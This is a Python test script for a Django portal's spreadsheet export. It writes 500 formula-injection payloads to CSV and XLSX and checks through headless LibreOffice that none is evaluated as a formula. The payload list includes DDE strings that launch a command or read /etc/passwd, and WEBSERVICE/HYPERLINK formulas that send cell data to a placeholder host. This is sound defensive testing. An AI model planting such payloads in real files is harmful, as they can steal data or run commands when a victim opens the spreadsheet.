"""Export 500 formula payloads, have LibreOffice read them again, and fail when one is computed or lost.

Both shapes go through the headless office with formulas evaluated on reading, as a careless person would open them:
what comes out must be the text that went in, behind an apostrophe at most, and no cell a formula.
"""

import csv
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from itertools import product
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

LEADS = ["", " ", "\t", "\r\n", "\n", "\u00a0", "\u200b", "\ufeff", "  \t "]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"]
BODIES = [
    "1+1", 'HYPERLINK("http://x.example.org";"Cliquez")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "A1", "2*3",
    'WEBSERVICE("http://x.example.org/?"&A1)', 'DDE("soffice";"/etc/passwd";"A1")',
]  # fmt: skip
PHONES = ["+22890123456", "+33612345678"]
FORMULA = re.compile(r"<table:table-cell[^>]*table:formula=")


def payloads() -> list[str]:
    """Return 500 texts a spreadsheet might compute, and numbers of telephones."""
    made = [f"{lead}{sign}{body}" for sign, body, lead in product(SIGNS, BODIES, LEADS)]
    made += ['=1+1";=2+2;"', "'=1+1", "=1\n+1", "-5", "+5", "@", "=", "1e5", "=;=", '"=1+1"']
    return made[: 500 - len(PHONES)] + PHONES


def write_files(folder: Path, texts: list[str]) -> None:
    """Write the payloads as both shapes of an export."""
    from core.spreadsheets import BOM, PHONE, TEXT, XlsxWriter, csv_lines

    rows = [(str(number), text, text) for number, text in enumerate(texts)]
    kinds = [[TEXT, PHONE, TEXT] if text in PHONES else [TEXT, TEXT, TEXT] for text in texts]
    with (folder / "essai.csv").open("wb") as stream:
        stream.write(BOM)
        for row, kind in zip(rows, kinds, strict=True):
            stream.writelines(line.encode() for line in csv_lines([row], kind))
    with (folder / "essai.xlsx").open("wb") as stream:
        writer = XlsxWriter(stream, title="Essai")
        for row, kind in zip(rows, kinds, strict=True):
            writer.write([row], kind)
        writer.close()


def convert(folder: Path, name: str, to: str, *options: str) -> Path:
    """Let LibreOffice read a file and write what it made of it."""
    out = folder / f"relu-{to.split(':', maxsplit=1)[0]}-{Path(name).suffix[1:]}"
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [
        "soffice",
        profile,
        "--headless",
        *options,
        "--convert-to",
        to,
        "--outdir",
        str(out),
        str(folder / name),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return next(out.iterdir())


def normal(text: str) -> str:
    """Return a text without what a spreadsheet changes of its own: kinds of line end, blanks at the ends."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\ufeff", "").strip()


def problems(folder: Path, texts: list[str], name: str) -> list[str]:
    """Return what went wrong when a file was read again."""
    from core.spreadsheets import phone_text, unescaped

    # 59: semicolon, 34: quotes, 76: UTF-8, then “detect special numbers” and “evaluate formulas” both on.
    options = ["--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"] if name.endswith("csv") else []
    found = []
    with zipfile.ZipFile(convert(folder, name, "ods", *options)) as book:
        formulas = len(FORMULA.findall(book.read("content.xml").decode()))
    if formulas:
        found.append(f"{name}: {formulas} cells were read as formulas")
    again = convert(folder, name, "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,true,false,false", *options)
    with again.open(encoding="utf-8-sig", newline="") as stream:
        rows = {row[0]: row for row in csv.reader(stream, delimiter=";") if row}
    for number, text in enumerate(texts):
        row = rows.get(str(number), ["", "", ""])
        wanted = phone_text(text) if text in PHONES else text
        if normal(unescaped(row[1])) != normal(wanted):
            found.append(f"{name}: {text!r} came back as {row[1]!r}")
    return found


def main() -> int:
    """Check both shapes and return the exit code."""
    if shutil.which("soffice") is None:
        print("LibreOffice is not installed: nothing was checked.", file=sys.stderr)
        return 2
    import os

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "ccv_portal.settings_test")
    import django

    django.setup()
    texts = payloads()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        write_files(folder, texts)
        found = [line for shape in ("essai.csv", "essai.xlsx") for line in problems(folder, texts, shape)]
    for line in found:
        print(line)
    print(f"{len(texts)} payloads, two shapes: {len(found)} problems")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
